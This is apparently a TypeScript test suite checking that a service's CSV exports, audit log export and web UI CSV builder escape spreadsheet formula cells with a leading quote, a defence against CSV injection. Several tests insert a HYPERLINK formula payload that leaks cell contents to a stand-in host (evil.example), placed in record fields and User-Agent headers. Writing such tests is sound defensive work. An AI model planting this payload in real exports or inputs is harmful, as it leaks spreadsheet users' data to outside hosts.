import { expect } from 'chai';
import fc from 'fast-check';
import { randomUUID } from 'node:crypto';
import type { Sql } from '../../../src/platform/db/database.js';
import { asJson } from '../../../src/platform/db/database.js';
import { csvCells, csvRows } from '../../../src/platform/csv.js';
import { DEFAULT_TENANT_ID } from '../../../src/platform/tenants.js';
import { csvText } from '../../../src/ui/app/lib/csv-format.js';
import { createKey, useTestApp } from '../../support/app.js';
import { buildSource } from '../../support/factories.js';

/**
 * Spreadsheets run a cell that starts with one of these as a formula (OWASP, CSV injection); every
 * CSV the service writes must start such a cell with `'` instead.
 */
const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'] as const;
const label = (prefix: string) => JSON.stringify(prefix);

/**
 * RFC 4180, strictly: a quoted field runs to its closing quote and may hold commas, doubled quotes,
 * CR and LF; outside quotes a record ends at LF or CRLF, and a bare CR or a quote is an error (an
 * unquoted CR is where a spreadsheet would split the row).
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  const endField = () => {
    record.push(field);
    field = '';
  };
  while (i < text.length) {
    if (field === '' && text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
      const after = text[i];
      if (after !== undefined && after !== ',' && after !== '\n' && after !== '\r')
        throw new Error(`text after a closing quote at ${i}`);
      continue;
    }
    const c = text[i]!;
    if (c === ',') {
      endField();
      i++;
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      endField();
      records.push(record);
      record = [];
      i += c === '\r' ? 2 : 1;
    } else if (c === '\r' || c === '"') {
      throw new Error(`unquoted ${JSON.stringify(c)} at ${i}`);
    } else {
      field += c;
      i++;
    }
  }
  if (field !== '' || record.length > 0) {
    endField();
    records.push(record);
  }
  return records;
}

/** The parsed CSV as objects keyed by its header. */
function table(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  for (const row of rows) expect(row, JSON.stringify(row)).to.have.lengthOf(header!.length);
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])));
}

interface Change {
  field: string;
  old_value: unknown;
  new_value: unknown;
}

async function insertRecord(
  sql: Sql,
  source: string,
  record: { ci: string; name: string; namespace: string | null; type: string; at: string; changes: Change[] },
) {
  await sql`
    insert into change_records (tenant_id, ci_id, source_id, scope_id, ci_name, ci_namespace, ci_type, change_type, changed_at, changes, changed_fields)
    values (${DEFAULT_TENANT_ID}, ${record.ci}, ${source}, null, ${record.name}, ${record.namespace}, ${record.type}, 'UPDATED',
            ${record.at}::text::timestamptz, ${sql.json(asJson(record.changes))}::jsonb, ${record.changes.map((c) => c.field)}::text[])`;
}

describe('CSV exports: formula-like cells are escaped', () => {
  const app = useTestApp();
  let admin: string;

  beforeEach(async () => {
    admin = await createKey(app.current.sql, 'adm', { name: 'ops admin' });
  });

  const download = async (path: string) => {
    const reply = await app.current.request('GET', path, { key: admin, headers: { accept: 'text/csv' } });
    expect(reply.status).to.equal(200);
    expect(reply.headers.get('content-type')).to.equal('text/csv; charset=utf-8');
    return reply.text;
  };

  it('GET /api/v1/changes prefixes names, namespaces, types, fields and values starting with =, +, -, @, TAB or CR with a quote', async () => {
    const source = await buildSource(app.current.sql, 'k8s-prod');
    const payload = (prefix: string) => `${prefix}HYPERLINK("https://evil.example/?leak="&A1,"open")`;
    const cis = new Map<string, string>();
    for (const [i, prefix] of DANGEROUS.entries()) {
      const ci = randomUUID();
      cis.set(ci, prefix);
      await insertRecord(app.current.sql, source, {
        ci,
        name: payload(prefix),
        namespace: `${prefix}ns`,
        type: `${prefix}type`,
        at: `2026-01-01T00:00:0${i}Z`,
        changes: [
          { field: `${prefix}field`, old_value: `${prefix}old`, new_value: payload(prefix) },
          { field: 'status', old_value: `${prefix}1`, new_value: { note: `${prefix}x` } },
        ],
      });
    }

    const rows = table(await download('/api/v1/changes?sort_by=changed_at&sort_order=asc'));
    expect(rows).to.have.lengthOf(DANGEROUS.length * 2);
    for (const row of rows) {
      const prefix = cis.get(row.ci_id!)!;
      const at = label(prefix);
      expect(row.ci_name, at).to.equal(`'${payload(prefix)}`);
      expect(row.ci_namespace, at).to.equal(`'${prefix}ns`);
      expect(row.ci_type, at).to.equal(`'${prefix}type`);
      if (row.field === 'status') {
        expect(row.old_value, at).to.equal(`'${prefix}1`);
        // JSON text starts with a brace: nothing to escape, and it parses back exactly
        expect(JSON.parse(row.new_value!), at).to.deep.equal({ note: `${prefix}x` });
      } else {
        expect(row.field, at).to.equal(`'${prefix}field`);
        expect(row.old_value, at).to.equal(`'${prefix}old`);
        expect(row.new_value, at).to.equal(`'${payload(prefix)}`);
      }
      // identifiers, times and change types the service generates are never escaped
      expect(row.change_id).to.match(/^\d+$/);
      expect(row.changed_at).to.match(/^2026-01-01T00:00:0\d\.000Z$/);
      expect(row.change_type).to.equal('UPDATED');
    }
  });

  it('GET /api/v1/changes leaves ordinary cells as they were, negative numbers too, and quotes line breaks inside a cell', async () => {
    const source = await buildSource(app.current.sql, 'k8s-prod');
    const ci = randomUUID();
    const changes: Change[] = [
      { field: 'raw_data.spec.replicas', old_value: -1, new_value: 3 },
      { field: 'raw_data.spec.offset', old_value: -0.25, new_value: 1.5e-7 },
      { field: 'raw_data.spec.paused', old_value: true, new_value: false },
      { field: 'raw_data.metadata.labels.tier', old_value: null, new_value: 'web' },
      { field: 'raw_data.metadata.annotations.note', old_value: 'a=b, c+d', new_value: ' =not a formula' },
      { field: 'raw_data.metadata.annotations.text', old_value: 'line one\rline two', new_value: 'a\r\nb "c"' },
      { field: 'raw_data.metadata.annotations.full', old_value: '＝SUM(A1)', new_value: "'already quoted" },
      { field: 'raw_data.spec.ports', old_value: [], new_value: [{ port: -80, name: '=http' }] },
    ];
    await insertRecord(app.current.sql, source, {
      ci,
      name: 'web-1',
      namespace: 'default',
      type: 'k8s.pod',
      at: '2026-01-01T10:00:00.123456Z',
      changes,
    });

    const rows = table(await download('/api/v1/changes'));
    expect(rows.map((row) => [row.field, row.old_value, row.new_value])).to.deep.equal([
      ['raw_data.spec.replicas', '-1', '3'],
      ['raw_data.spec.offset', '-0.25', '1.5e-7'],
      ['raw_data.spec.paused', 'true', 'false'],
      ['raw_data.metadata.labels.tier', '', 'web'],
      ['raw_data.metadata.annotations.note', 'a=b, c+d', ' =not a formula'],
      ['raw_data.metadata.annotations.text', 'line one\rline two', 'a\r\nb "c"'],
      // the library also escapes the full-width forms some spreadsheets read as the ASCII ones
      ['raw_data.metadata.annotations.full', "'＝SUM(A1)", "'already quoted"],
      ['raw_data.spec.ports', '[]', '[{"name":"=http","port":-80}]'],
    ]);
    expect(rows[0]).to.include({
      ci_id: ci,
      ci_name: 'web-1',
      ci_namespace: 'default',
      ci_type: 'k8s.pod',
      changed_at: '2026-01-01T10:00:00.123Z',
    });
  });

  it('GET /api/v1/audit-events prefixes a hostile User-Agent of an anonymous client and names starting with TAB or CR', async () => {
    const agents = ['=', '+', '-', '@'].map((prefix) => `${prefix}HYPERLINK("https://evil.example/?leak="&A1,"open")`);
    for (const agent of [...agents, '-1', 'curl/8.5.0']) {
      const refused = await app.current.request('GET', '/api/v1/configuration-items', {
        headers: { 'user-agent': agent },
      });
      expect(refused.status, agent).to.equal(401);
    }
    // HTTP trims a header's leading TAB and refuses a CR: those reach the log through names
    const named = ['\tops', '\rops'];
    for (const name of named) {
      const key = await createKey(app.current.sql, 'ro', { name });
      expect((await app.current.get('/api/v1/configuration-items', key)).status).to.equal(200);
    }
    expect((await app.current.get('/api/v1/configuration-items', admin)).status).to.equal(200);
    await app.current.context.audit.flush();

    const rows = table(await download('/api/v1/audit-events'));
    const failed = rows.filter((row) => row.event_type === 'auth.failed');
    const agentsSeen = failed.map((row) => row.user_agent);
    for (const agent of agents) expect(agentsSeen, agent).to.include(`'${agent}`);
    expect(agentsSeen).to.include("'-1");
    expect(agentsSeen).to.include('curl/8.5.0');
    for (const row of failed) {
      expect(row.actor_kind).to.equal('anonymous');
      expect(JSON.parse(row.details!)).to.have.property('reason', 'missing_credentials');
    }
    const succeeded = rows.filter((row) => row.event_type === 'auth.succeeded').map((row) => row.actor_name);
    for (const name of named) expect(succeeded, label(name)).to.include(`'${name}`);
    expect(succeeded).to.include('ops admin');
  });
});

describe('CSV cells', () => {
  const value = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom(...DANGEROUS, '＝', '＋', '－', '＠').chain((prefix) => fc.string().map((rest) => prefix + rest)),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
    fc.jsonValue(),
  );

  it('are what the library writes for each value alone, plain or not', () => {
    fc.assert(
      fc.property(fc.array(value, { maxLength: 30 }), (values) => {
        expect(csvCells(values)).to.deep.equal(values.map((v) => csvRows([[v]]).slice(0, -1)));
      }),
      { numRuns: 500 },
    );
  });

  it('parse back to the value, with a quote before formula-like text', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.integer()), { minLength: 1, maxLength: 10 }),
        (values) => {
          // a NUL cannot be cut apart at: those cells are formatted one by one
          const [parsed] = parseCsv(`${csvCells(values).join(',')}\n`);
          expect(parsed).to.deep.equal(
            values.map((v) =>
              typeof v === 'string' && /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(v) ? `'${v}` : String(v),
            ),
          );
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('CSV the web interface assembles', () => {
  it('prefixes formula-like cells with a quote and leaves the rest as they were', () => {
    const rows = [
      ...DANGEROUS.map((prefix) => [`${prefix}HYPERLINK("x")`, `${prefix}1`, -1]),
      ['web-1', null, { a: 'b,c' }],
      [true, 2.5, 'line\rbreak'],
    ];
    const parsed = parseCsv(csvText(['name', 'value', 'number'], rows));
    expect(parsed[0]).to.deep.equal(['name', 'value', 'number']);
    expect(parsed.slice(1)).to.deep.equal([
      ...DANGEROUS.map((prefix) => [`'${prefix}HYPERLINK("x")`, `'${prefix}1`, '-1']),
      ['web-1', '', '{"a":"b,c"}'],
      ['true', '2.5', 'line\rbreak'],
    ]);
  });
});
